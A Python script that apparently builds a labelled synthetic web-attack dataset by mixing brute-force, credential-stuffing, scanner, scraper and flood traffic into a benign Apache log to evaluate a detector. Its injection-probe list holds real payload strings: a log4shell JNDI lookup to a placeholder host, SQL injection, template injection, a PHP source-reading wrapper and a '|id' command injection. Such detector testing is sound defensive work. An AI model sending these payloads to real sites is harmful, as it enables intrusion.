#!/usr/bin/env python3
"""Other attack shapes on the websec benign log (stdlib only), to check that `backsight security`
generalises beyond the visible mix's shapes. Not the hidden set: shapes chosen without it.

usage: zcat $BACKSIGHT_DATA/websec/src/elastic_apache_logs_2015-05-17_18.log.gz |
         python3 websec_alt_mix.py OUT_DIR [--benign-logins]
then:  websec_bench --data OUT_DIR
Shapes: slow basic-auth brute force (8 h), fast token-endpoint brute force, credential stuffing from
6 /24s with a GET of the login page first, a Nikto scan, a slow browser-UA wordlist scan, 4
injection probers of 3 requests (log4shell, SQLi, SSTI, PHP wrapper, command), a browser-UA
scraper (15 min) and a cache-busting flood. --benign-logins adds 200 benign users logging in all
day (a fifth mistype once, a third of those give up).
"""
import gzip, os, random, re, sys
sys.path.insert(0, os.path.join(os.environ.get('BACKSIGHT_DATA', '../shared/data'), '..', 'tools'))
import websec_mix as W
OUT = sys.argv[1]
LOGINS = '--benign-logins' in sys.argv[2:]
os.makedirs(OUT, exist_ok=True)
rng = random.Random(42)
ben = W.read_benign('/dev/stdin', W.parse_ts and 1431820800, 1431993600, 7)
t0 = min(e[0] for e in ben); t1 = max(e[0] for e in ben)
pool = W.IPPool(rng, {e[3] for e in ben})
ev = list(ben); labels = []
def add(ip, kind, rows):
    for t, ln in rows: ev.append((t, ln, kind, ip))
    labels.append((ip, min(r[0] for r in rows), max(r[0] for r in rows), kind, 'alt', len(rows)))
L = W.line
# slow brute force: basic auth 401 on /admin/ every 3-8 min for 8 h
ip = pool.get(); t = t0 + 7200; rows = []
while t < t0 + 7200 + 8 * 3600:
    rows.append((t, L(ip, t, 'GET', '/admin/', 401, 300, '-', 'curl/7.35.0', user=rng.choice(['admin', 'root']))))
    t += rng.randint(180, 480)
add(ip, 'brute_force', rows)
# fast bf on /api/auth/token JSON 401
ip = pool.get(); t = t0 + 40000; rows = []
for k in range(60): rows.append((t, L(ip, t, 'POST', '/api/auth/token', 401, 80, '-', 'Go-http-client/1.1'))); t += rng.randint(1, 3)
add(ip, 'brute_force', rows)
# credential stuffing B: 30 IPs in 6 /24s, each GET /login then 1-2 POST 401 , over 4 h
base = t0 + 60000
nets = ['%d.%d.%d' % (rng.randint(11, 200), rng.randint(0, 255), rng.randint(0, 255)) for _ in range(6)]
for k in range(30):
    ip = pool.get(same24=nets[k % 6]); t = base + rng.randint(0, 4 * 3600); rows = []
    ua = rng.choice(W.BROWSER_UAS)
    rows.append((t, L(ip, t, 'GET', '/login', 200, 3000, '-', ua))); t += rng.randint(2, 10)
    for j in range(rng.randint(1, 2)):
        rows.append((t, L(ip, t, 'POST', '/login', 401, 300, 'http://www.semicomplete.com/login', ua))); t += rng.randint(30, 600)
    add(ip, 'credential_stuffing', rows)
# nikto-like scanner, 150 requests
ip = pool.get(); t = t0 + 90000; rows = []
for k in range(150):
    p = rng.choice(['/.git/config', '/.env', '/wp-config.php.bak', '/phpinfo.php', '/admin/config.php', '/server-status', '/cgi-bin/%d.cgi' % k, '/backup%d.zip' % k])
    rows.append((t, L(ip, t, 'GET', p, 404, 200, '-', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)' % k))); t += rng.randint(0, 2)
add(ip, 'scanner', rows)
# low-volume scanner with browser UA: 40 distinct missing paths over 20 min
ip = pool.get(); t = t0 + 100000; rows = []
for k in range(40):
    p = rng.choice(['/wp-admin/', '/administrator/', '/.svn/entries', '/xmlrpc.php', '/config.json', '/old/', '/test.php', '/db.sql']) + '?' + str(k)
    rows.append((t, L(ip, t, 'GET', '/x%d' % k + p.split('?')[0], 404, 200, '-', W.BROWSER_UAS[1]))); t += rng.randint(10, 50)
add(ip, 'scanner', rows)
# injection: log4shell + ssti + sqli, 3 requests each from 4 IPs
pl = ['/?x=${jndi:ldap://1.2.3.4/a}', "/blog/?q=1'%20AND%201=1--", '/search?q=%7B%7B7*7%7D%7D', '/index.php?file=php://filter/convert.base64-encode/resource=index.php', '/?cmd=|id', "/login?user=admin'--"]
for k in range(4):
    ip = pool.get(); t = t0 + 120000 + k * 5000; rows = []
    for j in range(3): rows.append((t, L(ip, t, 'GET', rng.choice(pl), rng.choice([200, 400, 403]), 300, '-', rng.choice(W.BROWSER_UAS)))); t += rng.randint(5, 120)
    add(ip, 'injection_probe', rows)
# scraper with browser UA 1.5 req/s for 15 min; cache buster 5 req/s 3 min
paths = [ln.split('"')[1].split(' ')[1] for _, ln, _, _ in ben if '" 200 ' in ln][:500]
ip = pool.get(); t = float(t0 + 130000); rows = []
while t < t0 + 130000 + 900: rows.append((int(t), L(ip, int(t), 'GET', rng.choice(paths), 200, 5000, '-', W.BROWSER_UAS[2]))); t += rng.uniform(0.3, 1.0)
add(ip, 'abusive_client', rows)
ip = pool.get(); t = float(t0 + 135000); rows = []
while t < t0 + 135000 + 180: rows.append((int(t), L(ip, int(t), 'GET', '/?r=%d' % rng.randint(0, 10**9), 200, 9000, '-', 'Mozilla/5.0'))); t += rng.uniform(0.1, 0.3)
add(ip, 'abusive_client', rows)
# benign logins all day (--benign-logins): 200 users, a fifth mistype once, a third of those give up
for k in range(200 if LOGINS else 0):
    ip = pool.get(); t = t0 + rng.randint(0, t1 - t0 - 3600); ua = rng.choice(W.BROWSER_UAS)
    ev.append((t, L(ip, t, 'GET', '/login', 200, 3000, '-', ua), 'benign', ip)); t += rng.randint(3, 20)
    if rng.random() < 0.2:
        ev.append((t, L(ip, t, 'POST', '/login', 401, 300, 'http://www.semicomplete.com/login', ua), 'benign', ip)); t += rng.randint(5, 30)
        if rng.random() < 0.33: continue
    ev.append((t, L(ip, t, 'POST', '/login', 302, 300, 'http://www.semicomplete.com/login', ua), 'benign', ip)); t += 1
    for j in range(rng.randint(1, 6)):
        p = rng.choice(paths); ev.append((t, L(ip, t, 'GET', p, 200, 5000, 'http://www.semicomplete.com/', ua), 'benign', ip)); t += rng.randint(1, 60)
ev.sort(key=lambda e: e[0])
with gzip.open(os.path.join(OUT, 'access.log.gz'), 'wt') as f:
    for e in ev: f.write(e[1] + '\n')
with open(os.path.join(OUT, 'labels.tsv'), 'w') as f:
    f.write('source_ip\tstart_ts\tend_ts\tkind\torigin\tn_requests\n')
    for r in labels: f.write('%s\t%d\t%d\t%s\t%s\t%d\n' % r)
    for l in open(os.path.join(os.environ.get('BACKSIGHT_DATA', '../shared/data'), 'websec', 'labels.tsv')):
        if '\tignore\t' in l: f.write(l)
print(len(ev), len(labels))
